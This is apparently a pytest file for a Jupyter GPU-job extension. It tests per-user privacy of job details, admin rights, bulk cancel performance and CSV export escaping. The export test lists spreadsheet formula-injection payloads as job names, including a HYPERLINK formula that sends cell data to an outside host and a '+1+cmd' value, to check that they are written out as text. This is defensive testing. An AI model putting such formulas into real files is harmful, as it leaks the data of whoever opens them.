"""An engine embedded in a Jupyter server with named users (one server for several people)
keeps each user's job details to its owner and the admins, as the shared engine does; with
`c.GPUJobs.private_data = False` everyone sees everything."""

from __future__ import annotations

import json
from typing import Any

import pytest
from jupyter_server.auth.identity import IdentityProvider, User
from tornado.httpclient import HTTPClientError


class NamedUsers(IdentityProvider):
    """Users named by their token (`Authorization: token ann`), as a hub's tokens name them."""

    def get_user(self, handler: Any) -> User | None:  # type: ignore[override]
        auth = handler.request.headers.get("Authorization", "")
        name = auth.removeprefix("token ").strip()
        return User(username=name) if name in ("ann", "bob", "boss") else None

    def is_token_authenticated(self, handler: Any) -> bool:
        return True


@pytest.fixture
def jp_server_config(gpujobs_config: dict[str, Any]) -> dict[str, Any]:
    return {
        "ServerApp": {"jpserver_extensions": {"jupyter_gpujobs": True}, "identity_provider_class": NamedUsers},
        "GPUJobs": {**gpujobs_config, "admin_users": ["boss"]},
    }


async def call(jp_fetch: Any, who: str, method: str, path: str, body: Any = None) -> tuple[int, Any]:
    try:
        r = await jp_fetch("gpujobs", "api", *path.split("/"), method=method, headers={"Authorization": f"token {who}"},
                           body=json.dumps(body) if body is not None else None)
    except HTTPClientError as err:
        return err.code, json.loads(err.response.body) if err.response is not None else None
    return r.code, json.loads(r.body)


async def test_named_users_see_others_jobs_only_as_queue_views(jp_fetch: Any, engine: Any) -> None:
    code, job = await call(jp_fetch, "ann", "POST", "jobs", {"command": "sleep 30", "gpus": 1, "name": "ann-secret"})
    assert code == 201 and job["user"] == "ann"
    jid = job["id"]
    for who in ("ann", "boss"):
        code, seen = await call(jp_fetch, who, "GET", f"jobs/{jid}")
        assert seen["name"] == "ann-secret" and seen["command"] == ["sleep", "30"]
        assert (await call(jp_fetch, who, "GET", f"jobs/{jid}/log"))[0] == 200
    code, seen = await call(jp_fetch, "bob", "GET", f"jobs/{jid}")
    assert code == 200 and seen["private"] is True and seen["name"] is None and seen["command"] is None
    assert seen["user"] == "ann" and seen["gpus"] == 1
    listed = (await call(jp_fetch, "bob", "GET", "jobs"))[1]["jobs"]
    assert [j["command"] for j in listed if j["id"] == jid] == [None]
    for sub in ("log", "events", "stats"):
        code, err = await call(jp_fetch, "bob", "GET", f"jobs/{jid}/{sub}")
        assert code == 403 and "private" in err["message"], sub
    assert (await call(jp_fetch, "bob", "DELETE", f"jobs/{jid}"))[0] == 403
    assert (await call(jp_fetch, "boss", "DELETE", f"jobs/{jid}"))[0] == 200

    # the queue: the owner asks first (the page is cached), then another user: the queue view only
    code, later = await call(jp_fetch, "ann", "POST", "jobs", {"command": "true", "gpus": 1, "name": "ann-later",
                                                               "begin": "+1d"})
    assert code == 201
    queued = (await call(jp_fetch, "ann", "GET", "queue"))[1]["jobs"]
    assert [(j["id"], j["name"]) for j in queued] == [(later["id"], "ann-later")]
    queued = (await call(jp_fetch, "bob", "GET", "queue"))[1]["jobs"]
    assert [(j["id"], j["user"], j["name"], j["command"], j["private"]) for j in queued] == [
        (later["id"], "ann", None, None, True)]


@pytest.fixture
def gpujobs_config(gpujobs_config: dict[str, Any], request: pytest.FixtureRequest) -> dict[str, Any]:
    return {**gpujobs_config, **getattr(request, "param", {})}


@pytest.mark.parametrize("gpujobs_config", [{"private_data": False}], indirect=True)
async def test_private_data_off_shows_everything(jp_fetch: Any, engine: Any) -> None:
    jid = (await call(jp_fetch, "ann", "POST", "jobs", {"command": "true", "gpus": 0, "name": "open"}))[1]["id"]
    code, seen = await call(jp_fetch, "bob", "GET", f"jobs/{jid}")
    assert code == 200 and seen["name"] == "open" and "private" not in seen


async def test_cli_show_and_cancel_of_another_users_job(jp_fetch: Any, engine: Any, jp_http_port: int,
                                                        jp_base_url: str) -> None:
    """`show` of someone else's job prints its queue view and says the rest is private (no
    privacy error after the table, exit 0); `cancel` names the job once in its refusal."""
    import asyncio
    import sys

    code, job = await call(jp_fetch, "ann", "POST", "jobs", {"command": "sleep 30", "gpus": 1, "begin": "+1d"})
    url = f"http://127.0.0.1:{jp_http_port}{jp_base_url}"

    async def cli(*args: str) -> tuple[int, str, str]:
        proc = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "jupyter_gpujobs.cli", "--url", url, "--token", "bob", *args,
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
        out, err = await asyncio.wait_for(proc.communicate(), 60)
        return proc.returncode or 0, out.decode(), err.decode()

    code, out, err = await cli("show", str(job["id"]))
    assert code == 0 and err == "", (out, err)
    assert "ann" in out and "private to ann" in out and "command:" not in out
    code, out, err = await cli("show", "--json", str(job["id"]))
    assert code == 0 and json.loads(out)["private"] is True and json.loads(out)["events"] == []
    code, out, err = await cli("cancel", str(job["id"]))
    assert code == 1 and err.count(f"job {job['id']}") == 1 and "belongs to ann" in err, err


async def test_cancel_of_many_ids_reads_the_store_in_chunks(jp_fetch: Any, engine: Any) -> None:
    """`POST jobs/cancel {"ids": [...]}` cancels the caller's own of them and says why not for
    the others (another's, none such). A job looked up one by one, 100,000 ids (a body under
    1 MiB) held the engine's loop, and every user's request, for 15 s."""
    from sqlalchemy import event

    mine = (await call(jp_fetch, "bob", "POST", "jobs", {"command": "true", "gpus": 0, "begin": "+1d"}))[1]["id"]
    theirs = (await call(jp_fetch, "ann", "POST", "jobs", {"command": "true", "gpus": 0, "begin": "+1d"}))[1]["id"]
    ended = (await call(jp_fetch, "bob", "POST", "jobs", {"command": "true", "gpus": 0, "begin": "+1d"}))[1]["id"]
    assert (await call(jp_fetch, "bob", "DELETE", f"jobs/{ended}"))[0] == 200
    unknown = list(range(10**9, 10**9 + 20_000))
    statements: list[str] = []

    def count(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        statements.append(statement)

    event.listen(engine.store.engine, "before_cursor_execute", count)
    try:
        code, out = await call(jp_fetch, "bob", "POST", "jobs/cancel", {"ids": [theirs, *unknown, mine, ended, mine]})
    finally:
        event.remove(engine.store.engine, "before_cursor_execute", count)
    assert code == 200 and out["cancelled"] == [mine] and out["stopping"] == [], out
    assert out["errors"][str(theirs)] == f"job {theirs} belongs to ann; only they or an admin may change it"
    assert out["errors"][str(unknown[0])] == f"no job {unknown[0]}" and len(out["errors"]) == 1 + len(unknown)
    reads = [s for s in statements if s.lstrip().upper().startswith("SELECT")]
    assert len(reads) <= 10, f"{len(reads)} reads of the store for {len(unknown) + 4} ids"
    assert (await call(jp_fetch, "ann", "GET", f"jobs/{theirs}"))[1]["state"] == "PENDING"


async def test_an_accounting_export_shows_a_users_formula_as_text(jp_fetch: Any, engine: Any) -> None:
    """A job's name is its user's text: in the CSV an admin exports and opens in a spreadsheet,
    a name that starts a formula is written as text ('=...), never as the formula."""
    import csv
    import io

    names = ['=HYPERLINK("http://example.org/?"&A1,"open")', "+1+cmd", "-2+3", "@SUM(A1)", "plain-name"]
    for name in names:
        code, _ = await call(jp_fetch, "ann", "POST", "jobs", {"command": "true", "gpus": 0, "begin": "+1d",
                                                                 "name": name})
        assert code == 201
    r = await jp_fetch("gpujobs", "api", "accounting", params={"format": "csv", "since": "1h"},
                       headers={"Authorization": "token boss"})
    rows = list(csv.DictReader(io.StringIO(r.body.decode())))
    assert sorted(row["name"] for row in rows if row["user"] == "ann") == sorted(
        ["'" + n for n in names[:4]] + ["plain-name"])


async def test_whether_a_viewer_is_an_admin_is_asked_once_not_per_job(jp_fetch: Any, engine: Any,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Whether a user is in the admin group (the system's group database) was asked for each
    of another's jobs they saw: 0.1 ms each, a page of 1000 jobs 150 ms more, and every job
    change on every websocket of a user who is not its owner."""
    from jupyter_gpujobs.engine import access

    asked: list[str] = []
    monkeypatch.setattr(access, "in_group", lambda user, group: asked.append(user) or False)
    monkeypatch.setattr(engine.state, "admin_group", "gpujobs-admins-here")
    code, job = await call(jp_fetch, "ann", "POST", "jobs", {"command": "true", "gpus": 1, "begin": "+1d",
                                                           "array": "0-49"})
    assert code == 201
    asked.clear()
    listed = (await call(jp_fetch, "bob", "GET", "jobs"))[1]["jobs"]
    queued = (await call(jp_fetch, "bob", "GET", "queue"))[1]["jobs"]
    assert len(listed) == len(queued) == 50 and all(j["private"] for j in listed + queued)
    assert asked.count("bob") == 1, f"asked {asked.count('bob')} times"
